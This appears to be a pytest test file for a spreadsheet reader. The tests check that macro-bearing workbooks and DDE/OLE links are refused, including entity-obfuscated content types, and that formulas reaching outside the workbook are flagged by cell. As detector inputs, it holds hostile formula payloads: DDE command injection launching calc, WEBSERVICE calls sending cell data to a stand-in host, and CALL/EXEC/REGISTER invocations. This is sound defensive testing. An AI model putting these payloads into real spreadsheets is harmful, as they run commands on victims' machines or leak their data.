"""What would act by itself is refused however it is spelt; formulas that reach outside are told with their cells."""

from __future__ import annotations

import pytest
from openpyxl.workbook.defined_name import DefinedName

from nap.facts import Finding, Severity
from nap.plan import Plan
from nap.returns.packing import pack, unpack
from nap.returns.reaching import reaches_outside
from nap.returns.reader import open_book
from tests.returns.reader_files import RELATIONS, WORKBOOK_TYPE, hand_made, hand_parts, opened, refused, relations, zipped
from tests.returns.workbooks import Return

EXCEL = "application/vnd.ms-excel."


def typed(*overrides: tuple[str, str]) -> bytes:
    """A small workbook whose parts are of these content types, written as they are given here."""
    inside = "".join(f'<Override PartName="{part}" ContentType="{kind}"/>' for part, kind in overrides)
    return zipped({**hand_parts(""), "[Content_Types].xml": f"<Types>{inside}</Types>"})


@pytest.mark.parametrize(
    "kind",
    [
        f"{EXCEL}sheet.macro&#69;nabled.main+xml",
        f"{EXCEL}sheet.macro&#x45;nabled.main+xml",
        "application/vnd.ms-office.vba&#80;roject",
        f"{EXCEL}macro&#115;heet+xml",
        f"{EXCEL}intlmacro&#115;heet+xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.dialog&#115;heet+xml",
    ],
)
def test_macros_are_refused_however_their_type_is_spelt(kind: str) -> None:
    decoy = ("/xl/other.xml", WORKBOOK_TYPE)
    assert refused(typed(("/xl/workbook.xml", kind), decoy)) == ("file-has-macros", "")
    assert refused(typed(("/xl/workbook.xml", WORKBOOK_TYPE), ("/xl/a.bin", kind))) == ("file-has-macros", "")


@pytest.mark.parametrize(
    ("kind", "case"),
    [
        ("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "word"),
        ("application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml", "zip"),
    ],
)
def test_the_part_that_is_opened_must_be_a_workbook_whatever_lies_beside_it(kind: str, case: str) -> None:
    assert refused(typed(("/xl/Workbook.xml", kind), ("/xl/decoy.xml", WORKBOOK_TYPE))) == ("not-a-workbook", case)


@pytest.mark.parametrize("kind", ["vbaProject", "vba&#80;roject", "xlMacrosheet", "xlIntlMacrosheet", "dialogsheet"])
@pytest.mark.parametrize("owner", ["xl/_rels/workbook.xml.rels", "xl/worksheets/_rels/sheet1.xml.rels"])
def test_macros_are_refused_by_the_relationship_that_names_them(owner: str, kind: str) -> None:
    parts = hand_parts("")
    here = str(parts.get(owner, relations()))
    link = f'<Relationship Id="rId1" Type="{RELATIONS}/{kind}" Target="harmless.bin"/></Relationships>'
    data = zipped({**parts, owner: here.replace("</Relationships>", link)})
    assert refused(data) == ("file-has-macros", "")


@pytest.mark.parametrize("link", ["ddeLink", "oleLink"])
def test_a_live_link_to_another_program_is_refused(link: str) -> None:
    def made(inside: str) -> bytes:
        parts = hand_parts("<sheetData/>")
        more = f'<Relationship Id="x" Type="{RELATIONS}/externalLink" Target="externalLinks/e1.xml"/></Relationships>'
        parts["xl/_rels/workbook.xml.rels"] = str(parts["xl/_rels/workbook.xml.rels"]).replace("</Relationships>", more)
        return zipped({**parts, "xl/externalLinks/e1.xml": f'<x:externalLink xmlns:x="u"><x:{inside}/></x:externalLink>'})

    assert refused(made(link)) == ("file-has-macros", "live-link")
    assert opened(made("externalBook")).external_links


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/c calc'!A0",
        "'cmd'|'/c calc'!A0",
        "MSEXCEL|'\\..\\a.exe'!''",
        'WEBSERVICE("http://x.example/"&A1)',
        '_xlfn.WEBSERVICE ("x")',
        'HYPERLINK("http://x.example","Отчёт")',
        "hyperlink(A1)",
        "[1]Sheet!A1",
        "SUM([12]Лист1!$A$1:$A$9)",
        "[1]!Total",
        "'C:\\it''s\\[Book 2.xlsx]My (sheet)'!A1+1",
        'RTD("prog.id",,"x")',
        'CALL("kernel32","x","y")',
        'REGISTER("a","b")',
        'REGISTER.ID("a","b")',
        'EXEC("calc")',
    ],
)
def test_a_formula_that_reaches_outside_is_known(formula: str) -> None:
    assert reaches_outside(formula)


@pytest.mark.parametrize(
    "formula",
    [
        "",
        "SUM(A1:A9)",
        "'Лист 1'!A1+Sheet2!B2",
        "Table1[Total]+SUM('Лист 1'!A1)",
        "SUM(Table1[[#All],[Total]])*Sheet2!A1",
        'HYPERLINK("#Data!A1","Data")',
        'IF(A1="cmd|x","[1]Sheet!A1","CALL(x)")',
        "'a|b'!A1",
        "RECALL(A1)+MYEXEC(2)",
    ],
)
def test_a_formula_of_the_workbook_itself_is_left_alone(formula: str) -> None:
    assert not reaches_outside(formula)


def test_the_cells_come_out_of_the_reader_and_through_the_pipe() -> None:
    rows = '<row r="1"><c r="A1"><f>[1]S!A1</f><v>1</v></c><c r="B1"><f>A1</f><v>1</v></c></row>'
    shared = (
        '<row r="2"><c r="A2"><f t="shared" ref="A2:B2" si="0">x|y!A1</f><v>1</v></c>'
        '<c r="B2"><f t="shared" si="0"/><v>1</v></c><c r="C2"><v>7</v></c></row>'
    )
    book = opened(hand_made(f"<sheetData>{rows}{shared}</sheetData>"))
    assert book.sheets[0].reaching == ((1, 1), (2, 1), (2, 2))
    assert unpack(pack(book)) == book


def outside(made: Return) -> list[Finding]:
    return [each for each in made.check().findings if (each.code, each.case) == ("hidden-content", "reaches-outside")]


def test_the_cell_is_named_and_a_plain_sum_is_not(example_plan: Plan) -> None:
    made = Return(example_plan)
    sheet = made.book.create_sheet("Счёт")
    sheet["A1"], sheet["A2"], sheet["B3"] = "=cmd|'/c calc'!A0", "=SUM(1,2)", '=WEBSERVICE("http://x.example")'
    (finding,) = outside(made)
    assert (finding.severity, finding.sheet, finding.cells) == (Severity.WARNING, "Счёт", ("A1", "B3"))
    assert outside(Return(example_plan)) == []


@pytest.mark.parametrize("sheet", ["", "localSheetId='0'"])
def test_a_defined_name_that_reaches_outside_is_told_without_a_place(sheet: str, example_plan: Plan) -> None:
    name = f"<workbookPr/><definedNames><definedName name='x' {sheet}>cmd|'/c calc'!A0</definedName></definedNames>"
    book = open_book(hand_made("<sheetData/>", workbook=name))
    assert not isinstance(book, Finding)
    assert any(map(reaches_outside, book.names.values()))
    made = Return(example_plan)
    made.book.defined_names["outer"] = DefinedName("outer", attr_text="cmd|'/c calc'!A0")
    assert [(each.sheet, each.cells) for each in outside(made)] == [(None, ())]
